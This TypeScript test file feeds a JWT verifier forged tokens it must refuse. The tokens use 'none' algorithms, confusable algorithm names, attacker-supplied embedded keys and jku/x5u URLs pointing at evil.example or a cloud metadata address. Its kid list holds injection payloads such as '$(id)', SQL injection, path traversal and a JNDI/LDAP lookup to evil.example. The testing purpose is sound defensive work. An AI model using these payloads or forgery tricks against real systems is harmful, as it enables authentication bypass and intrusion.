import { Forge, KEYS, base64url, publicJwk, type KeyName } from './forge.js';
import { each, refused, type Recipe } from './recipe.js';

/** Forged algorithms and forged keys. */

const ATTACKER = KEYS.attacker.privateKey;
/** For the length of tables that depend on the forge. */
const ANYBODY = new Forge('http://127.0.0.1', 'audience', 0);

const NONE = ['none', 'None', 'NONE', 'nOnE', 'NoNe', 'none ', ' none', 'none\0', 'n\u043Ene'];
const unsigned = each(
  [...NONE, '\uFF4E\uFF4F\uFF4E\uFF45', 'none,RS256', '', 'null', 'plain'].flatMap((alg) =>
    ['', 'AA', 'as RS256'].flatMap((signature) => [
      { alg, signature, kid: 'k1' },
      { alg, signature, kid: undefined },
    ]),
  ),
  ({ alg, signature, kid }) => ({
    header: { alg, kid },
    ...(signature !== 'as RS256' && { signature }),
  }),
);

const OTHER_ALGORITHMS = [
  'RS384',
  'RS512',
  'PS256',
  'PS384',
  'PS512',
  'ES256',
  'ES384',
  'ES512',
  'EdDSA',
  'Ed25519',
  'ES256K',
  'RS1',
  'RS224',
  'rs256',
  'RS256 ',
  ' RS256',
  'RS256\0',
  'RSA-SHA256',
  'RS256,HS256',
  'RS256 none',
  'RS256\n',
  'R\u0455256',
  '\uFF32\uFF33256',
  'RS\u0662\u0665\u0666',
  'SHA256withRSA',
  'sha256',
  'md5',
  'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  '1.2.840.113549.1.1.11',
  'PBES2-HS256+A128KW',
  'ECDH-ES',
  'ML-DSA-44',
  'valueOf',
  'hasOwnProperty',
  'x'.repeat(5000),
  'SHA256',
  'dir',
  'A128KW',
  'RSA-OAEP',
  'HS256',
  '__proto__',
  'constructor',
  'toString',
];

const KEY_IDS: readonly unknown[] = [
  'unknown',
  'K1',
  ' k1',
  'k1 ',
  'k1\0',
  'k1\n',
  'k',
  'k11',
  'attacker',
  'k1,ec1',
  '*',
  '../../../../dev/null',
  '/dev/null',
  'file:///dev/null',
  '..\\..\\windows\\win.ini',
  "' OR '1'='1",
  "k1' --",
  "x' UNION SELECT 'key",
  '$(id)',
  '`id`',
  '|id',
  '${7*7}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '0',
  'undefined',
  'null',
  'true',
  'https://evil.example/keys',
  'k'.repeat(512),
  'k'.repeat(513),
  'k'.repeat(8000),
  'k1\r\nX-Injected: 1',
  '\u001B[2Jk1',
  'k1%00',
  'k1?x=1',
  'k1#x',
  'k1;x',
  'k1/../attacker',
  '.',
  '..',
  '/',
  '%2e%2e%2f%2e%2e%2fdev%2fnull',
  '\uFF4B1',
  'k\u0661',
  'k1\u200B',
  '\uD800',
  '*)(kid=*',
  '${jndi:ldap://evil.example/x}',
  '%s%s%n',
  '<script>alert(1)</script>',
  '{"$gt":""}',
  'valueOf',
  'length',
  '__defineGetter__',
  '-1',
  'NaN',
  '[object Object]',
  'localhost:8080/keys',
  '\u{1F511}',
  '\u202Ek1',
];
const BAD_KEY_IDS: readonly unknown[] = [
  '',
  null,
  0,
  1,
  1.5,
  true,
  false,
  [],
  ['k1'],
  [['k1']],
  {},
  { kid: 'k1' },
  { toString: 'k1' },
  { $ne: null },
];

const attackerJwk = publicJwk('attacker');
const EMBEDDED: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  jwk: { jwk: attackerJwk },
  'jwk under the kid in use': { jwk: { ...attackerJwk, kid: 'k1' } },
  'a private jwk': { jwk: KEYS.attacker.privateKey.export({ format: 'jwk' }) },
  'jwk in a list': { jwk: [attackerJwk] },
  'jwk as text': { jwk: JSON.stringify(attackerJwk) },
  'a set of keys': { jwks: { keys: [attackerJwk] }, keys: [attackerJwk] },
  'jwk that is no key': { jwk: null },
  'x5c that is no list': { x5c: KEYS.attacker.publicKey.export({ type: 'spki', format: 'pem' }) },
  'x5c that is empty': { x5c: [] },
  x5c: { x5c: [base64url(KEYS.attacker.publicKey.export({ type: 'spki', format: 'der' }))] },
  x5t: { x5t: 'AAAA', 'x5t#S256': 'AAAA' },
  key: { key: KEYS.attacker.publicKey.export({ type: 'spki', format: 'pem' }) },
};

/** Where keys are said to be. Whoever looks there is found out: the server counts what it is asked. */
const addresses = ({ issuer }: Forge): readonly unknown[] => {
  const { origin } = new URL(issuer);
  return [
    'https://evil.example/keys',
    '//evil.example/keys',
    `${origin}/attacker`,
    `${issuer}/v1/keys/../../attacker`,
    `${issuer}/redirect?to=https://evil.example/keys`,
    origin.replace('//', '//evil.example@'),
    `${origin}.evil.example/keys`,
    `${issuer}/v1/keys#attacker`,
    'file:///dev/null',
    `data:application/json,${encodeURIComponent(JSON.stringify({ keys: [attackerJwk] }))}`,
    'http://169.254.169.254/latest/meta-data',
    '',
    null,
    [`${origin}/attacker`],
    { url: `${origin}/attacker` },
  ];
};

const named = ['jku', 'x5u'].flatMap((member) =>
  ['k1', 'attacker'].flatMap((kid) =>
    [...addresses(ANYBODY).keys()].map((index) => ({ member, kid, index })),
  ),
);

export const SIGNATURES: readonly Recipe[] = [
  ...refused('unsigned', unsigned),
  ...refused(
    'another algorithm in the header',
    each(OTHER_ALGORITHMS, (alg) => ({ header: { alg } })),
  ),
  ...refused(
    'the algorithm is no text',
    each([undefined, null, 256, true, ['RS256'], { alg: 'RS256' }], (alg) => ({ header: { alg } })),
  ),
  ...refused(
    'signed with the right key by an algorithm that the key is not for',
    each(['PS256', 'PS384', 'RS384', 'RS512'], (alg) => ({ header: { alg }, signedAs: alg })),
  ),
  ...refused(
    'the key is of another kind than the algorithm',
    each<KeyName>(['ec1', 'ec384', 'ec521', 'ed1'], (kid) => ({ header: { kid } })),
  ),
  ...refused(
    'RS256 in the header, signed by another kind of key',
    each(
      [
        { kid: 'ec1', signedAs: 'ES256' },
        { kid: 'ed1', signedAs: 'EdDSA' },
      ] as const,
      ({ kid, signedAs }) => ({ header: { kid }, signedAs, key: KEYS[kid].privateKey }),
    ),
  ),
  ...refused(
    'kid not in the set, signed by the right key',
    each([...KEY_IDS, ...BAD_KEY_IDS], (kid) => ({ header: { kid } })),
  ),
  ...refused(
    'kid not in the set, signed by another key',
    each([...KEY_IDS.slice(0, 4), ...BAD_KEY_IDS, undefined], (kid) => ({
      header: { kid },
      key: ATTACKER,
    })),
  ),
  ...refused(
    'signed by another key',
    each(['k1', 'k2', undefined], (kid) => ({ header: { kid }, key: ATTACKER })),
  ),
  ...refused('the kid of another key of the set', { k2: () => ({ header: { kid: 'k2' } }) }),
  ...refused(
    'brings its own key along',
    each(
      Object.keys(EMBEDDED).flatMap((name) =>
        ['k1', 'attacker', undefined].map((kid) => ({ name, kid })),
      ),
      ({ name, kid }) => ({ header: { ...EMBEDDED[name], kid }, key: ATTACKER }),
    ),
  ),
  ...refused(
    'says where its key is',
    each(named, ({ member, kid, index }, forge) => ({
      header: { kid, [member]: addresses(forge)[index] },
      key: ATTACKER,
    })),
  ),
];
